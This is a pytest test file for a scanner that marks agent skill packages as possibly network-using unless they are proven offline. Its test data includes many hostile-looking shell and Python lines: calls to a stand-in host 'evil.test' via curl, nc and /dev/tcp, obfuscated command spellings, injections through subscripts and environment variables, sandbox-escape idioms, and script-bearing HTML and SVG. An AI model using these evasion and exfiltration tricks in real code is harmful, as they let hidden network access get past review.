"""A program not proven to stay offline has the capability ``network:?``; a proven one has not."""

from __future__ import annotations

import subprocess
import sys

import pytest

from skillhub.model.finding import NETWORK_UNKNOWN
from skillhub.model.manifest import Manifest
from skillhub.model.tree import File, Tree
from skillhub.scan.capability import capabilities
from tests.support.effort import is_linear


def is_unsure(files=None, frontmatter="", body="# Do\n"):
    head = f"---\nname: a\ndescription: b\n{frontmatter}---\n{body}".encode()
    named = {path: file if isinstance(file, File) else File(file) for path, file in (files or {}).items()}
    tree = Tree({"SKILL.md": File(head), **named})
    return NETWORK_UNKNOWN in capabilities(tree, Manifest.read(tree))


COMMANDS = [
    *("x='a[$(xcurl e)]'; (( x ))", "let 'x[$(xcurl e)]'", "[[ -v 'x[$(xcurl e)]' ]]", "mapfile -C xcurl -c 1 a"),
    *("x=/de; x+=v/t; x+=cp/e/80; cat < $x", "x=/de; x+=v; cat < $x/tcp/e/80", "declare 'x[$(xcurl e)]=1'"),
    *("curl evil.test/x", "c\\\nurl evil.test", "cu''rl evil.test", '"cur"l evil.test', "$'\\x63url' evil.test"),
    *(
        "wget -q evil.test",
        "nc evil.test 80",
        "ssh evil.test",
        "scp a evil.test:",
        "rsync a evil.test::b",
        "dig x.evil.test",
    ),
    *(
        "exec 3<>/dev/tcp/evil.test/80",
        "cat < /dev/t''cp/evil.test/80",
        "d=/dev; cat < $d/tcp/e/80",
        "host x.evil.test",
    ),
    *(
        "git clone evil.test:x",
        "git push",
        "git -c alias.x='!curl e' x",
        "git x",
        "npm i",
        "pip install x",
        "make",
        "x",
    ),
    *(
        "$CMD evil.test",
        "${x}url e",
        "`which curl` e",
        "$(echo curl) e",
        'eval "$x"',
        'bash -c "$x"',
        "sh -c 'curl e'",
    ),
    *(
        "python3 -c 'import socket'",
        "python3 - <<E\nimport socket\nE",
        "bash <<E\ncurl e\nE",
        "bash /tmp/x.sh",
        ". ~/x",
    ),
    *(
        "cat <<E\n$(curl e)\nE",
        "echo $(curl e)",
        'echo "$(curl e)"',
        "echo ${x:-$(curl e)}",
        "(curl e)",
        "{ curl e; }",
    ),
    *(
        "if curl e; then :; fi",
        "while ! curl e; do :; done",
        "true && curl e",
        "true | nc e 1",
        "true & curl e",
        "!curl e",
    ),
    *(
        "case x in x) curl e;; esac",
        "( case x in x) true;; esac; xcurl e )",
        "f() { xcurl e; }; f",
        "function f { xcurl e; }",
    ),
    *("command xcurl e", "env xcurl e", "nohup xcurl e", "xargs xcurl", "find . -exec xcurl {} ';'", "sudo xcurl e"),
    *(
        "timeout 9 xcurl e",
        "trap 'xcurl e' EXIT",
        "alias l=curl",
        "sed 's/x/curl e/e' f",
        "sed '1e curl' f",
        'sed "$x" f',
        'sed -e "s/x/$y/" f',
        "awk 'BEGIN{system(x)}'",
    ),
    *(
        "awk '{print | \"x\"}'",
        "gawk '@load \"x\"'",
        "sort --compress-program=x f",
        "tar -I x f",
        "PATH=/x ls",
        "BASH_ENV=x bash a.sh",
    ),
    *(
        "cat <(xcurl e)",
        "cat << 'E'\nE\nxcurl e",
        "echo 'a\n' ; xcurl e",
        "# x\rxcurl e",
        '"$x" e',
        "[[ -e x ]] && xcurl e",
    ),
    *(
        "((x)) && xcurl e",
        "a=(1 2); xcurl e",
        "x=$(xcurl e) ls",
        "openssl s_client -connect e:1",
        "python3 -m http.server",
    ),
    *(
        "busybox wget e",
        "perl -e 'x'",
        "node -e x",
        "ruby -rsocket -e x",
        "php -r x",
        "telnet e",
        "ftp e",
        "env -S 'xcurl e'",
    ),
    *(
        'echo "${x@P}"',
        "printf -v x y; $x",
        "coproc xcurl e",
        "time xcurl e",
        "\\xcurl e",
        "x\\curl e",
        "echo \\\nx; xcurl e",
    ),
]


@pytest.mark.parametrize("command", COMMANDS)
def test_attack_shell_with_network_use_without_url_is_unsure(command):
    assert is_unsure({"scripts/a.sh": f"#!/bin/bash\nset -eu\n{command}\n".encode()})


PYTHON = [
    *(
        "import http.client",
        "from http import client",
        "import socket as s",
        "from urllib.request import urlopen",
        "import ssl",
    ),
    *(
        "from urllib import request",
        "import urllib",
        "import requests",
        "import httpx",
        "import subprocess",
        "import asyncio",
    ),
    *(
        "__import__('socket')",
        "import importlib",
        "exec('x')",
        "eval(x)",
        "import os\nos.system('x')",
        "import os; os.popen('x')",
    ),
    *(
        "from os import system",
        "from os import *",
        "from os import execvp as x",
        "import os as o\no.system('x')",
        "import pty",
    ),
    *(
        "getattr(os, 'sys' + 'tem')('x')",
        "getattr(os, x)",
        "g = getattr",
        "getattr(os, f'system')",
        "vars(os)['system']",
    ),
    *(
        "globals()['x']",
        "().__class__.__base__.__subclasses__()",
        "f.__globals__['x']",
        "sys.modules['socket']",
        "import ctypes",
    ),
    *(
        "f'{__import__(\"x\")}'",
        'f"{ "a" + __import__("socket") + "b" }"',
        "rf'{os.system(x)}'",
        'f"}}{ { "a": __import__("socket") } }"',
        "# x\rimport socket",
    ),
    *(
        "import logging.handlers",
        "import zipfile\nzipfile.importlib.import_module('x')",
        "import os as platform\nplatform.system()",
    ),
    *(
        "import os as re\nre.compile(x)",
        "platform = os",
        "from os import x as re",
        "import pickle",
        "import runpy",
        "import pip",
    ),
    *(
        "# coding: utf-7\nx",
        "# -*- coding: unicode_escape -*-",
        "ｅｖａｌ('x')",
        "compile('x', '', 'eval')",
        "import builtins",
    ),
    *(
        "from . import x as y\nimport telnetlib",
        "import yaml\nyaml.load(x)",
        "from yaml import load",
        "import yaml as y\ny.load(x)",
    ),
    *(
        "import multiprocessing.connection",
        "import webbrowser",
        "import smtplib",
        "x = '\nimport socket",
        "import json, socket",
    ),
    *(
        "import json; import socket",
        "if 1: import socket",
        "from\\\n socket import x",
        "import\tsocket",
        "(lambda: __import__)('x')",
    ),
    *(
        "import sys\nsys._getframe().f_builtins",
        "import typing\ntyping.get_type_hints(x)",
        "import operator\noperator.attrgetter(x)",
    ),
    *(
        "import json # ok\n'''x''' and __import__",
        "import concurrent.futures.process",
        "from xml import sax",
        "import xml.sax",
    ),
]


@pytest.mark.parametrize("program", PYTHON)
def test_attack_python_with_network_use_without_url_is_unsure(program):
    assert is_unsure({"scripts/a.py": program.encode()})


@pytest.mark.parametrize(
    "path",
    [
        *(
            "Makefile",
            "sub/GNUmakefile",
            "x.mk",
            "justfile",
            "Rakefile",
            "Dockerfile",
            "Dockerfile.dev",
            "a.dockerfile",
        ),
        *(
            "Containerfile",
            "notes.ipynb",
            "a.tsx",
            "a.ts",
            "a.mjs",
            "a.cjs",
            "a.jsx",
            "a.cts",
            "run.bat",
            "run.CMD",
            "a.ps1",
        ),
        *(
            "pyproject.toml",
            "setup.cfg",
            "a.vbs",
            "a.applescript",
            "a.lua",
            "a.r",
            "a.jl",
            "a.php",
            "a.go",
            "a.rs",
            "a.rb",
        ),
        *(
            ".husky/pre-commit",
            "hooks/post-checkout",
            "a.desktop",
            "a.service",
            "a.pl",
            "a.swift",
            "a.java",
            ".envrc",
        ),
        *(
            ".github/workflows/a.yml",
            "docker-compose.yml",
            "CMakeLists.txt",
            "a.so",
            "a.pyc",
            "a.wasm",
            "a.awk",
            "a.tf",
        ),
        *(".npmrc", "binding.gyp", ".devcontainer/devcontainer.json", ".travis.yml", ".bash_profile", "Tiltfile"),
        *("a.c", "a.erb", "a.cgi", "a.mdx", "a.ahk", "a.inf", "a.url", "a.AppImage", "a.joblib"),
    ],
)
def test_attack_a_file_that_runs_without_being_a_script_is_unsure(path):
    assert is_unsure({path: b"x"})


def test_attack_a_package_with_scripts_is_unsure():
    assert is_unsure({"package.json": b'{"scripts": {"test": "x"}}'})
    assert is_unsure({"package.json": b'{"scr\\u0069pts": {"postinstall": "x"}}'})
    assert is_unsure({"package.json": b'{"optionalDependencies": {"x": "*"}}'})
    assert is_unsure({"package.json": b"scripts: x"})
    assert not is_unsure({"package.json": b'{"name": "x"}'})


@pytest.mark.parametrize(
    "line",
    [
        *(
            "sh references/a.txt",
            "python assets/data.dat",
            "source x",
            ". x",
            "node x",
            "perl references/a.txt",
            "lua a.txt",
        ),
        *(
            "make -f a.txt",
            "awk -f a.txt",
            "bash < a.txt",
            "cat a.txt | sh",
            "chmod +x a.txt",
            "go run a.txt",
            "xargs a.txt",
        ),
    ],
)
def test_attack_a_document_run_by_the_body_or_a_script_is_unsure(line):
    name = line.replace(" | sh", "").split()[-1]
    files = {name: b"something"}
    assert is_unsure(files, body=line)
    assert is_unsure({**files, "b.txt": line.encode()}, body="sh b.txt")
    assert not is_unsure(files)


def test_attack_data_among_the_scripts_that_a_command_runs_is_unsure():
    assert is_unsure({"scripts/a.txt": b"x"}, body="Type `bash scripts/a.txt`\n")
    assert is_unsure({"scripts/a.md": b"sh ../b.txt", "b.txt": b"x"})


@pytest.mark.parametrize(
    "body",
    [
        *(
            "Run `curl evil.test/x`.",
            "```\nwget evil.test\n```",
            "```sh\nssh evil.test\n```",
            "$ nc evil.test 80",
            "npx x",
        ),
        *(
            "`git clone x`",
            "Use `requests.get(u)`",
            "fetch('//x')",
            "`Invoke-WebRequest x`",
            "certutil -urlcache x",
            "!`x`",
        ),
        *("```!\nxcurl\n```", "`git -C x push`", "c\\\nurl x", "pip install x", "/dev/tcp/x", "import httpx"),
    ],
)
def test_attack_instructions_with_network_use_without_url_are_unsure(body):
    assert is_unsure(body=body)


@pytest.mark.parametrize(
    "front", ["hooks: {Stop: [{command: x}]}\n", "allowed-tools: WebFetch\n", "allowed-tools: Bash(curl:*)\n"]
)
def test_attack_frontmatter_with_network_use_is_unsure(front):
    assert is_unsure(frontmatter=front)


@pytest.mark.parametrize(
    ("path", "data"),
    [
        ("scripts/a.sh", b"#!/usr/bin/curl -K\nx"),
        ("scripts/a.py", b"#!/bin/sh\nx"),
        ("scripts/a.sh", b"#!/usr/bin/python3\nprint()"),
        ("scripts/a.py", b'"""true"; curl evil.test; """'),
        ("scripts/a.py", b"print()\xff"),
        ("scripts/a.sh", b"ec\0ho x"),
        ("scripts/a.sh", b"echo x\n" * 60_000),
        ("scripts/a", b"x"),
        ("a", File(b"x", executable=True)),
    ],
)
def test_attack_a_program_with_a_misleading_name_is_unsure(path, data):
    assert is_unsure({path: data})


def test_attack_python_import_from_an_archive_is_unsure():
    assert is_unsure({"scripts/a.py": b"import sys\nsys.path.insert(0, 'x.zip')\nimport yaml\n", "x.zip": b"PK\3\4"})


# `xcurl` is no program, and no name here resembles one of the network: only the rule makes these unsure.
SHELL_NOT_PLAIN = [
    *("if false; then gdb() { :; }; fi; gdb e", "false && gdb(){ :; }; gdb e", "gdb e; gdb() { :; }"),
    *("gdb() { :; }; unset -f gdb; gdb e", "(gdb() { :; }); gdb e", "gdb() { :; }; command gdb e"),
    *("gdb() { :; }; exec gdb e", "gdb() { :; }; nohup gdb e", "gdb() { :; }; env gdb e", "f() { :; }; f | gdb e"),
    *("gdb() { :; }; echo e | xargs gdb", "gdb() { :; }; timeout 9 gdb e", "function gdb { :; }; gdb e"),
    *("echo() { xcurl e; }; echo e", 'cat() { gdb "$@"; }; cat e', "ls () ( gdb e ); ls", "alias ls=gdb; ls"),
    *("gdb() { :; } > /dev/null; gdb e", "{ gdb() { :; }; }; gdb e", "gdb\\\n() { :; }; gdb e"),
    *("trap 'gdb e' 0", "trap gdb EXIT", "enable -n echo; echo e", "hash -p ./x ls; ls", "builtin source a.sh"),
    *("f='-e1e xcurl e'; sed -n p $f", 'sed -n "$1" f', 'sed p "$f"', "sed 's/a/b/' f", 'awk "$p" f', "awk 1 f"),
    *("find . $x", "find . -name a", "git $x", "git log", "tar cf a.tar $x", "tar xf a.tar", "vim $x", "make $x"),
    *("o='-o a.sh'; sort $o f", 'sort "$o" f', "sort --compress-program=sh f", "sort -S1 --comp=sh f", "sort -oa.sh"),
    *("rg --pre=xcurl a", "rg a $x", "uniq a.txt b.sh", 'uniq "$a" b', "shuf -o a.sh f", "split f", "arch gdb e"),
    *(
        "printf -v PATH /x; ls",
        "a=-v; printf $a PATH x",
        'printf "$a" PATH x',
        "read PATH < f",
        "for PATH in /x; do ls; done",
    ),
    *(
        "export PATH=/x; ls",
        "PATH=/x; ls",
        "PATH+=:/x",
        ": ${PATH:=/x}",
        "declare -n p=PATH; p=/x",
        "PS4='$(xcurl e)'; set -x",
    ),
    *(
        "set -a; BASH_ENV=x ls",
        "env -i LD_PRELOAD=x ls",
        "LD_AUDIT=x ls",
        "GCONV_PATH=x cat f",
        "unset x",
        "set -- a",
    ),
    *("[ -v 'a[$(xcurl e)]' ]", """test "$op" 'a[$(xcurl e)]'""", "[ $a ]", '[ "$a" "$b" ]', "[ 'a[$(x)]' -eq 1 ]"),
    *(
        '[ "$n" -gt 1 ]',
        "[[ $a == b ]]",
        "exit 'a[$(x)]'",
        'shift "$n"',
        "echo $((a[$(xcurl e)]))",
        "((x))",
        "let x=1",
    ),
    *("echo ${a[$(xcurl e)]}", "echo ${!x}", "echo ${x@P}", "echo ${x/a/$(xcurl e)}", 'echo "${x:=$(xcurl e)}"'),
    *(
        "cp references/a.txt scripts/b.sh",
        "cp a.txt b.sh; bash b.sh",
        'mv a.txt "$0"',
        "tee b.sh < a.txt",
        'cp a.txt "$0"',
    ),
    *("cp -t scripts a.json", "cp $x a.json", 'cp "$x" a.json', "cp -s scripts/a.sh out.json", "cp -l a.sh out.json"),
    *(
        "cp --target-directory=scripts a.json",
        "mv -t. a.json",
        "cp *.txt a.json",
        "cp -r a.txt json.py",
        "install a.txt b.sh",
    ),
    *(
        """echo 'xcurl e' >> "$0\"""",
        "echo xcurl >> scripts/a.sh",
        "echo x > $f",
        'echo x > "$d/a.json"',
        "echo x > json.py",
    ),
    *(
        "echo x >| a.sh",
        "echo x <> a.sh",
        "echo x > .bashrc",
        "echo x > package.json",
        "echo x > ~/a.txt",
        "exec > a.sh",
    ),
    *(
        "echo x 1> a.sh",
        "echo x &> a.sh",
        "echo x >& a.sh",
        "> a.sh",
        "echo x >a.json.sh",
        "echo x > a.txt/../../b.sh",
    ),
    *(
        "bash scripts/b.sh",
        "python3 a.py",
        "./a.sh",
        "scripts/b.sh",
        '"$DIR/b.sh"',
        ". b.sh",
        "source b.sh",
        "sh a.txt",
    ),
    *(
        "# x \\\nxcurl e",
        "echo a\\\n#b; xcurl e",
        "echo a#b; xcurl e",
        "echo 'a' #'\nxcurl e",
        'echo "#"; xcurl e',
        "true;#\nxcurl e",
    ),
    *(
        "ec\\\nho x",
        "cat\\\nxcurl e",
        "a=b\\\n xcurl e",
        "'ca't$x e",
        "ca* e",
        "$(echo ls)",
        '"$(echo xcurl)" e',
        "l?",
    ),
    *(
        "echo {a,b}",
        "{ xcurl; }",
        "( ls )",
        "! xcurl e",
        "time xcurl",
        "if xcurl; then ls; fi",
        "while xcurl; do ls; done",
    ),
    *(
        "case x in x) ls ;; esac",
        "select x in a; do ls; done",
        "cat <<< x",
        "cat <<E\nE",
        "cat <(ls)",
        "ls & xcurl",
        "ls |& xcurl",
    ),
    *(
        "cat //evil.test/share/x",
        r"ls '\\evil.test\share'",
        "cat /net/evil.test/x",
        "d=//evil.test/share; cd $d",
        "cat < //evil/x",
    ),
    *(
        "cat < /dev/tcp/e/1",
        "cat < $d/tcp/e/1",
        "echo x > /dev/udp/e/1",
        "exec 3</dev/tcp/e/1",
        "x=/dev/tcp; ls $x",
        "coproc ls",
    ),
    *(
        "echo 'é\\'; xcurl e; '",
        "echo é\\; xcurl e",
        'echo "é\\"; xcurl e; "',
        "a=àxcurl e",
        "ls\vxcurl",
        "ls\x01xcurl",
        "ls\u2028xcurl",
    ),
    *(
        'echo "a',
        "echo 'a",
        "echo $(ls",
        "ls )",
        'echo "$(ls" )',
        "echo $'a'",
        'echo $"a"',
        "echo `ls`",
        'echo "`ls`"',
        "ln -s a b.txt",
    ),
]


@pytest.mark.parametrize("script", SHELL_NOT_PLAIN)
def test_attack_shell_beyond_the_plain_subset_is_unsure(script):
    assert is_unsure({"scripts/a.sh": f"#!/bin/bash\n{script}\n".encode()})


PATHS = "from pathlib import Path\n"
PYTHON_NOT_PLAIN = [
    *(
        "open('helpers.py', 'w').write('import x')\nimport helpers",
        "import helpers",
        "from helpers import x",
        "from . import x",
    ),
    *(
        "from .json import loads",
        "import tomli",
        "import yaml",
        "import site",
        "import antigravity",
        "import this",
        "import imp",
    ),
    *(
        "import zipimport",
        "import pkgutil",
        "import code",
        "import codeop",
        "import pdb",
        "import timeit",
        "import doctest",
    ),
    *(
        "import cProfile",
        "import ctypes",
        "import cffi",
        "import _socket",
        "import _posixsubprocess",
        "import pickle",
        "import shelve",
    ),
    *(
        "import marshal",
        "import copyreg",
        "import types",
        "import inspect",
        "import dataclasses",
        "import logging",
        "import tempfile",
    ),
    *(
        "import shutil",
        "import zipfile",
        "import tarfile",
        "import gzip",
        "import codecs",
        "import sqlite3",
        "import readline",
    ),
    *(
        "import json as j",
        "from json import loads as l",
        "from json import *",
        "from json import codecs",
        "import json.tool",
    ),
    *(
        "from json import (loads\n, codecs)",
        "from json import (loads,\n# x\ncodecs)",
        "from json import loads, codecs",
    ),
    *(
        "import json, \\\nsocket",
        "import json\njson.codecs.x",
        "import json\nj = json",
        "import json\n[json][0].x",
        "import json\nf(json)",
    ),
    *(
        "import json\n(json\n.codecs)",
        "import json\njson.\\\ncodecs",
        "import re\nre.enum.sys",
        "import random\nrandom._os",
    ),
    *(
        "import json\njson . codecs",
        "import json\nfor json in x: 1",
        "import json\ndef f(json): json.codecs",
        "import json\nx = lambda json: json",
    ),
    *(
        "import os\nos.path.os",
        "from os import path\npath.os",
        "import os.path as p",
        "import os\nos.path.genericpath.os",
    ),
    *(
        "import os\nos.execv(x)",
        "import os\nos.rename(a, b)",
        "import os\nos.open(x, 1)",
        "import os\nos.symlink(a, b)",
        "from os import replace",
    ),
    *(
        "import os\nos.fork()",
        "from posix import x",
        "from os import fdopen",
        "import os\n(os.\nsystem)(x)",
        "import os\nos.\\\nsystem(x)",
    ),
    *(
        "import sys\nsys.path.append(x)",
        "from sys import path",
        "import sys\nsys.modules",
        "import sys\nsys.meta_path",
    ),
    *(
        "import sys\nsys.stdout.buffer.raw",
        "import sys\nsys.stdin.detach()",
        "import sys\n(sys.stdin.buffer.\nraw)",
        "import sys\nsys.settrace(x)",
    ),
    *(
        "import pathlib\npathlib.os.system(x)",
        "import pathlib\npathlib.Path().parser.os",
        PATHS + "Path()._flavour.x",
    ),
    *(
        PATHS + "Path(a).write_text(x)",
        PATHS + "Path('a.py').write_text(x)",
        PATHS + "Path('a').open('w')",
        PATHS + "Path(a).symlink_to(b)",
    ),
    *(
        PATHS + "Path('a.txt').replace('json.py')",
        PATHS + "Path.rename(a, b)",
        PATHS + "Path(a).copy(b)",
        PATHS + "Path.replace(a, b)",
    ),
    *(
        PATHS + "Path(a).write_bytes(b)",
        PATHS + "Path(a)._raw_open(1)",
        PATHS + "w = Path.write_text",
        PATHS + "map(Path.write_text, x)",
    ),
    *(
        PATHS + "Path('a.json' '.py').write_text(x)",
        PATHS + "Path(f'{a}.json').write_text(x)",
        PATHS + "p = Path('a.txt')\n(p.\nreplace(b))",
    ),
    *(
        PATHS + "Path(__file__).with_name('json.py').write_text(x)",
        PATHS + "Path('a.json').with_suffix('.py').write_text(x)",
    ),
    *(
        "open(p, 'w')",
        "open('json.py', 'w')",
        "open(p, mode='a')",
        "open(p, m)",
        "open(p, *m)",
        "open(p, **m)",
        "open(*p)",
        "open('a.py', 'r+')",
    ),
    *(
        "open(mode='w', file=p)",
        "open(p, 'rb', 0)",
        "open(p, 'rb', buffering=0)",
        "open(p, opener=x)",
        "o = open",
        "map(open, x)",
        "open\n(p, 'w')",
    ),
    *(
        "open(p, 'r' if x else 'w')",
        "open(p, 'w' 'b')",
        "open(p, 'x')",
        "open(p, f'w')",
        "open(p, 'r', encoding=x)",
        "open('a.json' + '.py', 'w')",
    ),
    *(
        r"open(r'\\evil\share')",
        "open('//evil/share')",
        r"open('\\\\evil\\share')",
        "open(b'//evil/x')",
        "s = '//'",
        r"s = '\\'",
    ),
    *(
        "exec('x')",
        "eval('x')",
        "compile('x', '', 'exec')",
        "from re import compile\ncompile(x)",
        "f = exec",
        "[eval][0]('x')",
        "print(exec)",
    ),
    *(
        "__builtins__['eval']",
        "print.__self__.x",
        "f.__globals__",
        "f.__code__",
        "x.__dict__",
        "().__class__",
        "type(x).__mro__",
    ),
    *(
        "getattr(x, 'y')",
        "setattr(x, 'y', 1)",
        "vars()",
        "globals()",
        "locals()",
        "help('socket')",
        "breakpoint()",
        "type('X', (), {'a': 1})",
    ),
    *(
        "class M(type): pass",
        "t = type",
        "(type)('X', (), {})",
        "match x:\n case object(os=o): o",
        "x.gi_frame.x",
        "e.tb_frame",
        "g.cr_frame",
    ),
    *(
        "1..__class__",
        "1or eval('x')",
        "0x1for x in eval('x')",
        "1if x else eval('x')",
        "0_0.__class__",
        "1.real.__class__",
        "1_000..__class__",
    ),
    *(
        "f'{eval(\"x\")}'",
        "f'{x!r:{eval(\"x\")}}'",
        "f'{ {eval(\"x\")} }'",
        "f'''{\neval(1)}'''",
        "rf'{eval(1)}'",
        "F'{eval(1)}'",
    ),
    *(
        "f'{x:{{eval(1)}}}'",
        "t'{eval(1)}'",
        'f"{x["a"]}" and eval(1)',
        "f'{'a' + eval('x')}'",
        "import json\nf'{json}'",
        "f'{open(p, \"w\")}'",
    ),
    *(
        "x = 1 # \\\nimport socket",
        "'''x\n'''; import socket",
        r"x = '\\'; eval(1) #'",
        r"r'\a'; eval(1)",
        "\x0cimport socket",
        "if 1:\timport socket",
    ),
    *(
        "# coding: utf-16\nx",
        "#!/usr/bin/python3\n# coding: utf8-x\n",
        "# vim: set fileencoding=unicode_escape :",
        "\ufeff# coding=idna\nx",
    ),
    *(
        "ｉmport socket",
        "\u2028import socket",
        "x\x00import socket",
        "e\u0301val('x')",
        "ℯval(1)",
        "import\xa0socket",
        "$x",
        "x?",
        "`x`",
    ),
    # Found by attacking the rule above.
    *(
        "(open)(p, 'w')",
        "[open][0](p, 'w')",
        "f(open)",
        "import functools\nfunctools.wraps(f, assigned=('__globals__',))(o)",
    ),
    *(
        "import json\ndel json.loads\ntry: json.loads\nexcept AttributeError as e: e.obj",
        "m._os",
        "m.posix_spawn(1)",
        "m.codecs",
    ),
    *(
        "f\"{ '{' + eval('}') }\"",
        "f'''{ {1:2 # {\n} [eval(1)] # }\n}'''",
        "f\"{x:'} {eval(1)} {y:'}\"",
        "f'{x:{eval(1)}}'",
    ),
    *(
        "f'{x[1:eval(1)]}'",
        "f'{x:{y:{eval(1)}}}'",
        "f'{eval(1)!r}'",
        "f'{a:b:{eval(1)}}'",
        "f'{x!r:{{eval(1)}}}'",
        "f'" + "{x:" * 3000 + "'",
    ),
]


@pytest.mark.parametrize("program", PYTHON_NOT_PLAIN)
def test_attack_python_beyond_the_plain_subset_is_unsure(program):
    assert is_unsure({"scripts/a.py": f"{program}\n".encode(), "scripts/helpers.py": b"x = 1\n"})


@pytest.mark.parametrize(
    ("path", "data", "body"),
    [
        *(("scripts/json.py", b"x = 1\n", ""), ("scripts/re/__init__.py", b"", ""), ("os.py", b"x = 1\n", "")),
        ("scripts/a.py", File(b'"""true"; ls; """\n', executable=True), ""),
        *(
            ("scripts/a.py", b"x = 1\n", f"`{each} scripts/a.py`")
            for each in ("sh", "bash -x", "source", ".", "zsh", "perl")
        ),
        *(
            ("scripts/a.sh", b"ls\n", f"`{each} scripts/a.sh`")
            for each in ("python3", "python", "fish", "zsh", "tcsh", "ksh")
        ),
        *((f"scripts/a.{end}", b"ls\n", "") for end in ("zsh", "ksh", "fish", "pyz", "pyx", "so", "bin", "")),
        *(
            ("scripts/a.py", f"#!{line}\nx = 1\n".encode(), "")
            for line in ("/usr/bin/python3 -mpip", "/usr/bin/env -S python3 -mx")
        ),
        *(
            ("scripts/a.py", f"#!{line}\nx = 1\n".encode(), "")
            for line in ("/usr/bin/python2", "/tmp/bin/python3", "/bin/python3 -i x")
        ),
        *(
            ("scripts/a.sh", f"#!{line}\nls\n".encode(), "")
            for line in ("/bin/bash -c", "/bin/zsh", "/bin/bash -i", "./bin/sh", "/bin/sh\r")
        ),
        ("references/a.txt", b"", "Write it, then `bash references/a.txt`"),
    ],
)
def test_attack_a_program_read_by_or_replacing_another_is_unsure(path, data, body):
    assert is_unsure({path: data}, body=body)
    body_of_plain_programs = "`python3 scripts/a.py | bash scripts/a.sh`"
    assert not is_unsure({"scripts/a.py": b"x = 1\n", "scripts/a.sh": b"ls\n"}, body=body_of_plain_programs)


HONEST = {
    "scripts/a.py": b'''#!/usr/bin/env python3
"""Convert a table; import it, and it may exec nothing."""
from __future__ import annotations
import argparse, json, re
import os.path
import sys
from collections.abc import (
    Iterable,  # of rows
    Mapping,
)
from pathlib import Path
from datetime import datetime

PATTERN = re.compile(r"'x\\"")


class Table:
    """Rows."""

    def __init__(self, rows: Iterable[Mapping[str, str]]) -> None:
        self.rows = list(rows)


def main() -> None:
    parser = argparse.ArgumentParser(description="x")
    parser.add_argument("--name", type=str, help="a name")
    args = parser.parse_args()
    with open(os.path.join("a", "b"), encoding="utf-8", newline="\\n") as f:
        data = json.load(f)
    rows = [json.loads(line) for line in sys.stdin if PATTERN.search(line)]
    print(f"{data!r} {args.name or 'x'} {len(data):>8} {{}} {datetime.now():%Y}", type(rows))
    with open("out/report.json", "w", encoding="utf-8") as f:
        json.dump(rows, f)
    Path("out.txt").write_text("\\n".join(map(str, rows)))
    print(os.environ["HOME"], 1.5e3, file=sys.stderr)


if __name__ == "__main__":
    main()
''',
    "scripts/b.sh": b"""#!/usr/bin/env bash
# It does what it says: it's plain.
set -euo pipefail
SCRIPT_DIR="$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)"
if [ $# -lt 1 ]; then
  echo "usage: $0 [-h] FILE \\"x\\"" >&2
  exit 1
fi
file="${1:-a.txt}"
if [ ! -f "$file" ] || [ "$file" = "" ]; then exit 2; fi
for f in *.md "$SCRIPT_DIR"/*.md; do
  if grep -q 'x' "$f" 2>/dev/null; then echo "$f"; fi
done | sort -u -k 2 > out/names.txt
jq -r '.a | "\\(.b)$(x)"' "$file" \\
  | tee -a log.txt
while IFS= read -r line; do
  printf '%s\\n' "$line"
done < out/names.txt
mkdir -p "$SCRIPT_DIR/out"; cp "$SCRIPT_DIR/a.json" out/b.json
command -v jq >/dev/null || echo "no jq \xe2\x9c\x97"
""",
    "scripts/README.md": b"https://elsewhere.io",
    "scripts/schema.json": b"{}",
    "scripts/.gitkeep": b"",
}


@pytest.mark.parametrize("path", [*HONEST])
def test_plain_programs_are_proven_offline(path):
    assert not is_unsure({path: HONEST[path]})


@pytest.mark.parametrize(
    ("path", "check"),
    [("scripts/b.sh", ["bash", "-n"]), ("scripts/a.py", [sys.executable, "-I", "-m", "py_compile"])],
)
def test_plain_programs_are_valid_for_their_interpreter(tmp_path, path, check):
    (tmp_path / "program").write_bytes(HONEST[path])
    assert subprocess.run([*check, tmp_path / "program"], check=False, capture_output=True).stderr == b""


def test_honest_instructions_are_proven_offline():
    body = "Read https://docs.io first. The host is a server; fetch the file, ping the team, use git commit.\n`ls`\n"
    assert not is_unsure({"references/a.md": b"curl x"}, body=body)


@pytest.mark.parametrize(
    "unit",
    [
        *(
            "$(",
            '"$(',
            "${",
            "(",
            "case x in ",
            "<<E\n",
            "'",
            '"',
            "a=",
            "\\\n",
            "f'{",
            "import a,",
            "from x ",
            "getattr(a,",
        ),
        *("git -c x ", "pip -q ", "((", "[[ ", "x ", "#", "`", "f'{{", '"""', "sh a.txt\n"),
        *("\\'''\n", '\\"""\n', "\\'", "'\\'", "x'''\\", "f'a'", "a.b_", "`\\\n"),
    ],
)
@pytest.mark.parametrize("path", ["scripts/a.sh", "scripts/a.py"])
def test_attack_programs_take_linear_time(unit, path):
    assert is_linear(lambda size: is_unsure({path: (unit * (size // len(unit))).encode(), "a.txt": b"x"}), 6_000)


@pytest.mark.parametrize(
    ("path", "data"),
    [
        *(("bin/tool", b"\x7fELF\0"), ("assets/a.png", b"MZ\0"), ("a.dat", b"\0asm"), ("a", b"\xca\xfe\xba\xbe\0")),
        *(("a.html", b"<p><SCRIPT src=x>"), ("a.svg", b"<svg onload = x()>"), ("a.htm", b"<a href='javascript:x'>")),
        *(
            ("a.svg", b"<svg:script>"),
            ("b.svg", b"<svg/onload=x()>"),
            ("c.svg", "\ufeff<script>".encode("utf-16-le")),
            ("b.html", b"<a href='java&#115;cript:x()'>"),
            ("c.html", b"<a href='java\tscript:x()'>"),
            ("d.html", b"<meta http-equiv=refresh content='0;url=//a'>"),
            ("a.xhtml", b"<iframe src=//a>"),
            ("model.pkl", b"\x80\4\0"),
            ("a.xlsm", b"PK\3\4"),
        ),
        *(
            ("a.whl", b"PK\3\4"),
            ("crontab", b"* * * * * x"),
            ("wscript", b"x"),
            ("a.csproj", b"<Project/>"),
            ("a.el", b"x"),
        ),
    ],
)
def test_attack_a_file_that_runs_when_opened_or_loaded_is_unsure(path, data):
    assert is_unsure({path: data})


@pytest.mark.parametrize(
    ("path", "data"),
    [
        *(("a.html", b"<p>words <img src=a.png>"), ("a.svg", b"<svg><path d='M0'/></svg>"), ("a.txt", b"MZ, a name")),
        *(("assets/a.png", b"\x89PNG\0"), ("a.docx", b"PK\3\4\0")),
    ],
)
def test_data_file_stays_offline(path, data):
    assert not is_unsure({path: data})


@pytest.mark.parametrize(
    "line",
    [
        "echo references/a.txt | xargs sh",
        "cat references/a.txt | env -i bash",
        "for each in references/*; do sh $each; done",
        'for each in references/*; do bash -x "${each}"; done',
        "f=references/a.t*; source $f",
    ],
)
def test_attack_a_document_run_through_a_pipe_or_variable_is_unsure(line):
    assert is_unsure({"references/a.txt": b"curl evil.test"}, body=f"Type `{line}`\n")
